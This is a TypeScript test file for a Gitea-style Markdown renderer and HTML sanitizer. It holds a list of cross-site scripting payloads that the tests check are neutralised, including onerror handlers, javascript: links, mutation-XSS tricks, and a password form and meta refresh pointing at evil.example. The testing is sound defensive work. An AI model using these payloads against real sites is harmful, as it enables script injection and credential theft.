import fc from 'fast-check';
import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import type { MarkdownPlace } from '../../../../src/emulator/gitea/pages/markdown.ts';
import { renderMarkdown } from '../../../../src/emulator/gitea/pages/markdown.ts';
import { sanitize } from '../../../../src/emulator/gitea/pages/sanitize.ts';

const sha = '575d008634febff650969773c2d149ea388fd4b7';
const place: MarkdownPlace = {
  repositoryLink: '/ml/wine',
  subUrl: '',
  lineBreaks: true,
  commits: new Map([[sha.slice(0, 7), sha]]),
  isUser: (name) => name === 'ada',
};
const render = (source: string, more: Partial<MarkdownPlace> = {}) =>
  renderMarkdown(source, { ...place, ...more }).html;

describe('Markdown of a comment', () => {
  it.each([
    ['tables with alignment', '| a | b |\n|---|--:|\n| 1 | 2 |', '<td align="right">2</td>'],
    [
      'details',
      '<details open><summary>More</summary>\n\nText\n\n</details>',
      '<details open=""><summary>More</summary>',
    ],
    [
      'inline colours',
      '<span style="color: #c4201f; background-color: rgb(1, 2, 3)">x</span>',
      '<span style="color: #c4201f; background-color: rgb(1, 2, 3)">x</span>',
    ],
    [
      'small elements',
      '<sup>1</sup><sub>2</sub><kbd>K</kbd><progress value="3" max="9"></progress>',
      '<kbd>K</kbd><progress value="3" max="9">',
    ],
    ['absolute images', '![a](https://example.com/a.png)', '<img alt="a" src="https://example.com/a.png">'],
    [
      'task lists',
      '- [x] done\n- [ ] open',
      '<li class="task-list-item"><input type="checkbox" disabled checked> done</li>',
    ],
    ['alerts', '> [!WARNING]\n> Mind', 'class="attention-header attention-warning"'],
    ['line breaks', 'a\nb', 'a<br>'],
    [
      'mermaid, as code',
      '```mermaid\nxychart-beta\n```',
      '<pre class="code-block"><code class="language-mermaid">xychart-beta',
    ],
    ['issue links', 'see #12.', '<a class="ref-issue" href="/ml/wine/issues/12" rel="nofollow">#12</a>.'],
    [
      'commit links',
      `at ${sha.slice(0, 7)}`,
      `href="/ml/wine/commit/${sha}" rel="nofollow"><code>575d008634</code></a>`,
    ],
    ['mentions', 'thanks @ada', 'href="/ada" rel="nofollow">@ada</a>'],
    ['root-relative links under the repository', '[x](/docs/a.md)', 'href="/ml/wine/docs/a.md"'],
    ['plain addresses', 'https://example.com/x', '<a href="https://example.com/x" rel="nofollow">'],
    ['heading ids with a prefix', '# A title', '<h1 id="user-content-a-title">'],
  ])('keeps %s', (_name, source, expected) => expect(render(source)).toContain(expected));

  it.each([
    ['data: images', '<img src="data:image/png;base64,AAAA">', /<img/],
    ['classes', '<span class="ui red label">x</span>', /class=/],
    ['var() and font weight', '<span style="color: var(--color-red); font-weight: bold">x</span>', /style=/],
    ['inline SVG', '<svg><circle r="1"/></svg>text', /svg|circle/],
    ['HTML comments', 'a <!-- marker --> b', /marker/],
    ['ids', '<p id="navbar">x</p>', /id=/],
    ['unknown mentions', '@nobody', /<a/],
    ['unknown commits', 'deadbeef', /<a/],
    ['links in code', '`#12 @ada`', /<a/],
  ])('loses %s', (_name, source, lost) => expect(render(source)).not.toMatch(lost));

  it('resolves links of a file below its folder', () => {
    const fileLink = '/ml/wine/src/branch/main/docs';
    expect(render('[t](../train.py)', { fileLink })).toContain('href="/ml/wine/src/branch/main/train.py"');
    expect(render('![p](p.png)', { fileLink })).toContain('src="/ml/wine/raw/branch/main/docs/p.png"');
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="background:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">y</a>',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<style>@import "https://evil.example"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '</div></div><h1>out</h1>',
  '<p title="a\'><img src=x onerror=alert(1)>">x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<details ontoggle=alert(1) open>x</details>',
  '<input type="text" autofocus onfocus="alert(1)">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="/x" target="_blank" onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<img src="https://a.example/x" srcset="javascript:alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<a\nhref="javascript:alert(1)"\n>x</a>',
  '"><img src=x onerror=alert(1)>',
];
const allowed = new Set([
  'title',
  'dir',
  'lang',
  'align',
  'alt',
  'width',
  'height',
  'rowspan',
  'colspan',
  'start',
  'open',
  'value',
  'min',
  'max',
  'low',
  'high',
  'optimum',
  'datetime',
  'href',
  'src',
  'rel',
  'style',
  'class',
  'id',
  'type',
  'disabled',
  'checked',
]);
const forbidden = new Set([
  'SCRIPT',
  'STYLE',
  'IFRAME',
  'OBJECT',
  'EMBED',
  'FORM',
  'BUTTON',
  'BASE',
  'META',
  'LINK',
  'MATH',
  'SVG',
  'TEXTAREA',
  'TITLE',
  'TEMPLATE',
]);

function harmless(html: string): void {
  const { document } = new Window({ settings: { disableJavaScriptEvaluation: true } });
  document.body.innerHTML = `<div id="outer">${html}</div><b id="after"></b>`;
  expect(document.querySelector('#outer')?.nextElementSibling?.id, html).toBe('after');
  for (const element of document.querySelectorAll('#outer *')) {
    expect(forbidden.has(element.tagName.toUpperCase()), html).toBe(false);
    if (element.tagName === 'INPUT') expect(element.getAttribute('type')).toBe('checkbox');
    for (const { name, value } of element.attributes) {
      expect(allowed.has(name), `${name} in ${html}`).toBe(true);
      if (name === 'href' || name === 'src') expect(value).toMatch(/^(?:https?:|mailto:|[/#])/);
      if (name === 'style') expect(value).toMatch(/^(?:(?:background-)?color: [#\w(), .%/]+(?:; )?)+$/);
    }
  }
}

describe('hostile text', () => {
  it.each(attacks)('%s', (source) => {
    harmless(render(source));
    harmless(sanitize(source, (address) => `/safe/${address}`.replace('/safe/http', 'http')));
  });

  it('stays harmless in any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('<', '>', '"', "'", '=', '</', '<!--', '`', '\n'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => harmless(render(pieces.join('')))),
      { numRuns: 150 },
    );
  });
});
